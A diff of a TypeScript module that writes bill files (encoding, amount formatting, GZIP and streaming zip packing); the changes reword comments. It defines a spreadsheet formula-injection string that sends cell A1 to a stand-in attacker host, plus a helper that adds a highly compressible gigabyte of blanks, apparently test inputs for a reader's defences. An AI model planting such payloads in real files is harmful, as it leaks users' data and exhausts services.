@@ -1,4 +1,4 @@
-/** The files of bills: cells and pieces of text, packed by GZIP or as a zip. */
+/** Writes bill files: cells, text in pieces, and packing with GZIP or as a zip. */
 import iconv from 'iconv-lite';
 import { Readable, type Transform } from 'node:stream';
 import { pipeline } from 'node:stream/promises';
@@ -7,7 +7,7 @@ import { crc32, createDeflateRaw } from 'node:zlib';
 /** Characters per piece: large enough to be fast, small enough to save memory. */
 const PIECE = 64 * 1024;
 
-/** Encodes lines in pieces. */
+/** Joins lines into large pieces and encodes each piece. */
 export function* piecesOf(lines: Iterable<string>, charset: 'utf8' | 'gbk'): Iterable<Buffer> {
   let text = '';
   for (const line of lines) {
@@ -41,7 +41,7 @@ export function hundredths(minor: number): string {
   return `${minor < 0 ? '-' : ''}${digits.slice(0, -2)}.${digits.slice(-2)}`;
 }
 
-/** A text that no reader accepts as an amount. */
+/** A text that no bill reader accepts as an amount. */
 export const UNREADABLE = '--';
 
 /** A text that a spreadsheet would read as a formula. */
@@ -49,16 +49,16 @@ export const FORMULA = `=HYPERLINK("http://attacker.example/"&A1;"open")`;
 
 const BLANKS = Buffer.alloc(1024 * 1024, ' ');
 
-/** Packs the pieces. */
+/** Sends the pieces through `packer` and yields the packed bytes. */
 export async function* packedBy(packer: Transform, pieces: AsyncIterable<Buffer>): AsyncIterable<Buffer> {
   const feeding = pipeline(Readable.from(pieces, { objectMode: false }), packer);
-  // The packer's reader gets the error; this only avoids an unhandled rejection.
+  // The loop below also receives the error; this handler only prevents an unhandled rejection.
   feeding.catch(() => undefined);
   for await (const piece of packer as AsyncIterable<Buffer>) yield piece;
   await feeding;
 }
 
-/** Appends a gigabyte of blanks to a file; packed it is small. */
+/** Appends a gigabyte of blanks to a file, which is small when packed. */
 export async function* withGigabyte(pieces: AsyncIterable<Buffer>): AsyncIterable<Buffer> {
   yield* pieces;
   for (let count = 0; count < 1024; count += 1) yield BLANKS;
@@ -80,7 +80,10 @@ interface Sums {
   size: number;
 }
 
-/** Writes a zip in pieces, with sizes and checksums behind each file (APPNOTE.TXT 6.3, sections 4.3.7, 4.3.9 and 4.3.12). */
+/**
+ * Writes a zip in pieces. The sizes and checksum of each file follow its data (APPNOTE.TXT 6.3, sections 4.3.7, 4.3.9
+ * and 4.3.12).
+ */
 export async function* zipOf(entries: readonly ZipEntry[], at: number): AsyncGenerator<Buffer> {
   const directory: Buffer[] = [];
   let offset = 0;
@@ -160,7 +163,10 @@ function end(count: number, size: number, offset: number): Buffer {
   return bytes;
 }
 
-/** Date and time of Beijing in MS-DOS format, with the time first, as in a header. */
+/**
+ * Encodes the date and time in Beijing as a 32-bit MS-DOS value. The time is in the low half, because the headers of a
+ * zip store the time first.
+ */
 function dosTime(at: number): number {
   const day = new Date(at + 8 * 3_600_000);
   const time = (day.getUTCHours() << 11) | (day.getUTCMinutes() << 5) | (day.getUTCSeconds() >> 1);
